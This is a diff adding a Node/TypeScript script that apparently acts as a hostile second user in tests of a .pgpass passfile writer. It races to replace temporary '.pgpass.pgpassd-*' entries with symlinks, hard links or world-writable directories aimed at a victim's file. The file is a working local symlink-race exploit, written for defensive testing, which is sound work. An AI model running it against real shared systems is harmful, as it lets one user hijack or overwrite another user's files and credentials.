@@ -1,0 +1,82 @@
+import {
+  linkSync,
+  mkdirSync,
+  readdirSync,
+  renameSync,
+  rmdirSync,
+  symlinkSync,
+  unlinkSync,
+} from 'node:fs';
+import { join } from 'node:path';
+
+/**
+ * Another user of the passfile's directory, who puts a link to a file of a third one in the place of
+ * whatever appears there, as fast as it goes. Run as another user: `node FILE DIRECTORY UID HOW VICTIM`.
+ */
+const [directory = '', uid = '', how = '', victim = ''] = process.argv.slice(2);
+process.setgid?.(Number(uid));
+process.setuid?.(Number(uid));
+
+const attempt = (work: () => void): boolean => {
+  try {
+    work();
+    return true;
+  } catch {
+    return false;
+  }
+};
+
+const namesIn = (path: string): string[] => {
+  try {
+    return readdirSync(path);
+  } catch {
+    return [];
+  }
+};
+
+const plant = (path: string): boolean =>
+  attempt(() => (how === 'hard-link' ? linkSync(victim, path) : symlinkSync(victim, path)));
+
+/** Takes what is there away, and puts a directory of our own there, with links where files are foreseen. */
+function grab(path: string, number: number): boolean {
+  const aside = join(directory, `grabbed-${number}`);
+  if (how === 'directory-link') {
+    return attempt(() => {
+      renameSync(path, aside);
+      symlinkSync(join(victim, '..'), path);
+    });
+  }
+  if (how === 'directory') {
+    return attempt(() => {
+      renameSync(path, aside);
+      mkdirSync(path, 0o777);
+    });
+  }
+  return attempt(() => unlinkSync(path)) && plant(path);
+}
+
+let grabbed = 0;
+let running = true;
+process.on('message', () => {
+  running = false;
+});
+process.send?.('ready');
+
+function round(): void {
+  for (let turn = 0; turn < 200; turn += 1) {
+    for (const name of readdirSync(directory)) {
+      if (!name.startsWith('.pgpass.pgpassd-')) continue;
+      const path = join(directory, name);
+      // Into the directory, where it is one that lets us in.
+      const inner = namesIn(path);
+      for (const each of inner) {
+        if (attempt(() => unlinkSync(join(path, each))) && plant(join(path, each))) grabbed += 1;
+      }
+      if (grab(path, grabbed)) grabbed += 1;
+      else attempt(() => rmdirSync(path));
+    }
+  }
+  if (running) setImmediate(round);
+  else process.send?.({ grabbed }, () => process.exit(0));
+}
+round();
